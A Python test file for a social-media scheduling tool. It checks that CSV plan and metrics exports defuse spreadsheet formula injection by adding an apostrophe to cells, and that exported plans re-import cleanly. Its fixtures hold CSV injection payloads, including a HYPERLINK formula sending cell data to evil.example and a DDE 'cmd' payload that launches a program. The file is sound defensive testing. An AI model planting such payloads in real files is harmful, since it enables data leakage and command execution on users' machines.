"""Finding 12: CSV formula injection. Exported cells that start with =, +, -, @, a tab or a
carriage return get a leading apostrophe (OWASP), so Excel and LibreOffice show them as
text; the plan export still re-imports to the same posts."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from somestudio.app.workspace import open_workspace
from somestudio.domain.metrics import PostCounts
from somestudio.domain.networks import Network, PublishMethod
from somestudio.store import accounts as account_rows
from somestudio.store import metric_writes
from somestudio.store.database import transaction
from tests.faults.helpers_input import cli_environ, run_cli
from tests.integration.metric_servers import published

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
)


def _cells(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip("+-").isdigit()


def test_the_plan_export_neutralises_formula_cells_and_re_imports_them(tmp_path: Path) -> None:
    env = cli_environ(tmp_path / "env")
    folder = tmp_path / "archive"
    folder.mkdir()
    assert (
        run_cli(env, "account", "add", "local", "archive", "--folder", str(folder)).returncode == 0
    )
    source = tmp_path / "plan.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["text", "accounts", "date", "time", "labels"])
        for day, text in enumerate(FORMULAS, start=1):
            writer.writerow([text, "archive", f"2099-01-{day:02d}", "10:00", "@label, -other"])
    imported = run_cli(env, "import", str(source), "--tz", "Europe/Helsinki")
    assert imported.returncode == 0, imported.stderr
    exported = tmp_path / "export.csv"
    done = run_cli(env, "export", "--csv", str(exported))
    assert done.returncode == 0, done.stderr
    cells = _cells(exported)
    assert [c for c in cells if _dangerous(c)] == []
    for text in FORMULAS:
        assert "'" + text in cells
    assert "'-other, @label" in cells  # labels come out sorted
    # The export re-imports to the same texts (the apostrophe is taken off again).
    again = cli_environ(tmp_path / "env2")
    folder2 = tmp_path / "archive2"
    folder2.mkdir()
    assert (
        run_cli(again, "account", "add", "local", "archive", "--folder", str(folder2)).returncode
        == 0
    )
    dry = run_cli(again, "import", str(exported), "--tz", "Europe/Helsinki", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    for text in FORMULAS:
        assert f"→ archive: {text.strip()}" in dry.stdout


def test_the_metrics_export_neutralises_account_names_and_post_texts(tmp_path: Path) -> None:
    env = cli_environ(tmp_path / "env")
    workspace = open_workspace(Path(env["SOMESTUDIO_HOME"]))
    conn = workspace.writable_connection()
    with transaction(conn):
        account = account_rows.add_account(
            conn,
            Network.MASTODON,
            "@kahvila",
            display_name='=HYPERLINK("http://evil.example","x")',
            publish_method=PublishMethod.API,
        )
        when = datetime(2026, 3, 10, 9, tzinfo=UTC)
        delivery = published(conn, account, when, "r1", text="@SUM(A1:A9) read this")
        metric_writes.add_post_snapshot(conn, delivery, when, PostCounts(likes=5, reposts=1))
    workspace.close()
    target = tmp_path / "report.csv"
    done = run_cli(
        env, "metrics", "export", "--month", "2026-03", "--csv", str(target), "--tz", "UTC"
    )
    assert done.returncode == 0, done.stderr
    cells = _cells(target)
    assert "'@SUM(A1:A9) read this" in cells
    assert [c for c in cells if _dangerous(c)] == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
